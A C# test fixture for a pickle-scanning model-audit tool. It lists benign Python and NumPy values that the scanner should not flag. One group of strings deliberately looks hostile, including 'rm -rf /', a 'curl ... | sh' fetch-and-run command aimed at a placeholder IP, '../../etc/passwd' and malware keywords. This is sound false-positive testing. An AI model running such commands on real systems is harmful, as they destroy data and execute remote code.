namespace ModelAudit.RuleTests.Pickles;

/// <summary>Plain values of Python and NumPy as their own picklers write them.</summary>
internal static class HarmlessValues
{
    /// <summary>Names and values.</summary>
    public static IEnumerable<(string Name, object? Value)> All => Plain().Concat(Texts()).Concat(Standard()).Concat(Arrays());

    /// <summary>A NumPy array of float64.</summary>
    public static Py Array(params double[] values) => Array("f8", [values.Length], (byte[])[.. values.SelectMany(BitConverter.GetBytes)]);

    /// <summary>A NumPy array.</summary>
    public static Py Array(string type, object?[] shape, object data) =>
        Py.Call("numpy.core.multiarray", "_reconstruct", Py.Import("numpy", "ndarray"), Py.Tuple(0), "b"u8.ToArray())
            .With(Py.Tuple(1, Py.Tuple(shape), Type(type), false, data));

    /// <summary>A NumPy type.</summary>
    public static Py Type(string type) =>
        Py.Call("numpy", "dtype", type, false, true).With(Py.Tuple(3, type[0] == 'O' ? "|" : "<", null, null, null, -1, -1, type[0] == 'O' ? 63 : 0));

    /// <summary>A NumPy number.</summary>
    public static Py Scalar(double value) => Py.Call("numpy.core.multiarray", "scalar", Type("f8"), BitConverter.GetBytes(value));

    private static IEnumerable<(string, object?)> Plain() =>
    [
        ("None", null), ("a number", 5), ("a negative number", -70000), ("a float", 1.5), ("a truth value", true),
        ("a list", new object?[] { 1, "two", 3.0, null }), ("a nested list", new object?[] { new object?[] { new object?[] { 1 } }, Py.Tuple(1, 2) }),
        ("a dictionary", new (object?, object?)[] { ("learning_rate", 0.1), ("layers", new object?[] { 64, 64 }), (3, Py.Tuple()) }),
        ("bytes", new byte[] { 0, 255, 128 }), ("an empty tuple", Py.Tuple()), ("a long tuple", Py.Tuple(1, 2, 3, 4, 5)),
    ];

    /// <summary>Strings that only look like something: a string is data until something is called with it.</summary>
    private static IEnumerable<(string, object?)> Texts() =>
    [
        ("the text os.system", "os.system"), ("code in a text", "import os; os.system('rm -rf /')"), ("eval in a vocabulary", new object?[] { "eval", "exec", "__import__", "getattr" }),
        ("a web address", "https://example.com/payload.sh?cmd=curl+-s"), ("a mail address", "someone@example.com"),
        ("a text in base64", "bm90aGluZyB0byBzZWUgaGVyZSwgbW92ZSBhbG9uZw=="), ("a token", "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJl"),
        ("words of malware", new object?[] { "trojan", "backdoor", "reverse shell", "C&C check_in" }), ("a shell command", "/bin/sh -c 'curl http://198.51.100.1 | sh'"),
        ("dunders in a vocabulary", new (object?, object?)[] { ("__globals__", 1), ("__class__", 2), ("__reduce__", 3) }), ("a path", "../../etc/passwd"),
        ("names of modules as values", Py.Tuple("subprocess", "Popen")), ("a text like a pickle", "cos\nsystem"),
    ];

    private static IEnumerable<(string, object?)> Standard() =>
    [
        ("a date and time", Py.Call("datetime", "datetime", new byte[] { 7, 228, 1, 1, 0, 0, 0, 0, 0, 0 }, Py.Call("datetime", "timezone", Py.Call("datetime", "timedelta", 0, 7200, 0)))),
        ("a date", Py.Call("datetime", "date", new byte[] { 7, 228, 1, 1 })), ("a duration", Py.Call("datetime", "timedelta", 1, 2, 3)),
        ("a decimal", Py.Call("decimal", "Decimal", "1.5")), ("a fraction", Py.Call("fractions", "Fraction", "1/3")), ("a complex number", Py.Call("builtins", "complex", 1.0, 2.0)),
        ("a path", Py.Call("pathlib", "PosixPath", "/", "tmp", "x")), ("a path of Python 3.13", Py.Call("pathlib._local", "PosixPath", "/", "tmp")),
        ("a pure path", Py.Call("pathlib", "PureWindowsPath", "C:\\", "x")), ("a UUID", Py.Object("uuid", "UUID", ("int", 5))),
        ("an array", Py.Call("array", "_array_reconstructor", Py.Import("array", "array"), "d", 17, new byte[8])), ("a pattern", Py.Call("re", "_compile", "a+b", 32)),
        ("an ordered dictionary", Py.Call("collections", "OrderedDict") with { Entries = [("a", 1), ("b", 2)] }),
        ("a default dictionary of lists", Py.Call("collections", "defaultdict", Py.Import("builtins", "list")) with { Entries = [("a", new object?[] { 1 })] }),
        ("a default dictionary of numbers", Py.Call("collections", "defaultdict", Py.Import("builtins", "int"))),
        ("a counter", Py.Call("collections", "Counter", new (object?, object?)[] { ("a", 2) })), ("a deque", Py.Call("collections", "deque", Py.Tuple(), 5) with { Items = [1, 2] }),
        ("a set", Py.Call("builtins", "set", (object)new object?[] { 1, 2 })), ("a frozen set", Py.Call("builtins", "frozenset", (object)new object?[] { 1 })),
        ("a range", Py.Call("builtins", "range", 0, 5, 1)), ("a slice", Py.Call("builtins", "slice", 1, 2, null)), ("a byte array", Py.Call("builtins", "bytearray", "abc"u8.ToArray())),
        ("an error", Py.Call("builtins", "ValueError", "wrong")), ("the type of None", Py.Call("builtins", "type", (object?)null)), ("a class as a value", Py.Import("builtins", "float")),
        ("a partial application", Py.Call("functools", "partial", Py.Import("builtins", "max")).With(Py.Tuple(Py.Import("builtins", "max"), Py.Tuple(), new (object?, object?)[] { ("default", 0) }, null))),
        ("options of a command line", Py.Object("argparse", "Namespace", ("lr", 0.1), ("model", "bert"))), ("a namespace", Py.Call("types", "SimpleNamespace").With(new (object?, object?)[] { ("a", 1) })),
        ("a member of an enumeration", Py.Call("re", "RegexFlag", 2)), ("a member by name", Py.Call("builtins", "getattr", Py.Import("http", "HTTPStatus"), "OK")),
        ("an address", Py.Call("ipaddress", "IPv4Address", 16909060)), ("a time zone", Py.Call("zoneinfo", "ZoneInfo._unpickle", "Europe/Berlin", 1)), ("a logger", Py.Call("logging", "getLogger", "trainer")),
        ("a random generator", Py.New("random", "Random") is PyObject random ? random with { State = Py.Tuple(3, Py.Tuple(1, 2, 3), null) } : null), ("an iterator", Py.Call("builtins", "iter", (object)new object?[] { 1, 2 }).With(1)),
        ("a mathematical function", Py.Import("math", "sqrt")), ("a method of text", Py.Import("builtins", "len")), ("an item getter", Py.Call("operator", "itemgetter", 1)), ("a hint of types", Py.Call("operator", "getitem", Py.Import("typing", "Optional"), Py.Import("builtins", "int"))),
        ("a buffer", Py.Call("_io", "BytesIO").With(Py.Tuple("x"u8.ToArray(), 0, null))), ("a counter of iterations", Py.Call("itertools", "count", 3)), ("a chain of maps", Py.Object("collections", "ChainMap", ("maps", new object?[] { new (object?, object?)[] { (1, 2) } }))),
    ];

    private static IEnumerable<(string, object?)> Arrays() =>
    [
        ("an array of numbers", Array(1.0, 2.0, 3.0)), ("an array of NumPy 2", Py.Call("numpy._core.multiarray", "_reconstruct", Py.Import("numpy", "ndarray"), Py.Tuple(0), "b"u8.ToArray()).With(Py.Tuple(1, Py.Tuple(1), Type("f8"), false, new byte[8]))),
        ("an array of objects", Array("O8", [3], new object?[] { 1, "a", null })), ("an array of texts", Array("U2", [1], new byte[8])), ("a NumPy number", Scalar(1.5)), ("a NumPy type", Type("f4")),
        ("a NumPy function", Py.Call("numpy.core", "_ufunc_reconstruct", "numpy", "log1p")), ("a NumPy function by name", Py.Import("numpy", "mean")),
        ("a masked array", Py.Call("numpy.ma.core", "_mareconstruct", Py.Import("numpy.ma.core", "MaskedArray"), Py.Import("numpy", "ndarray"), Py.Tuple(0), "b").With(Py.Tuple(1, Py.Tuple(1), Type("i8"), false, new byte[8], new byte[1], null))),
        ("a random state", Py.Call("numpy.random._pickle", "__randomstate_ctor", "MT19937", Py.Import("numpy.random._pickle", "__bit_generator_ctor")).With(new (object?, object?)[] { ("bit_generator", "MT19937"), ("state", new (object?, object?)[] { ("key", Array("u4", [2], new byte[8])), ("pos", 624) }) })),
        ("a polynomial", Py.Object("numpy.polynomial.polynomial", "Polynomial", ("coef", Array(1.0, 2.0)))), ("an array of records", Py.Call("numpy.core.multiarray", "_reconstruct", Py.Import("numpy", "recarray"), Py.Tuple(0), "b"u8.ToArray())),
    ];
}
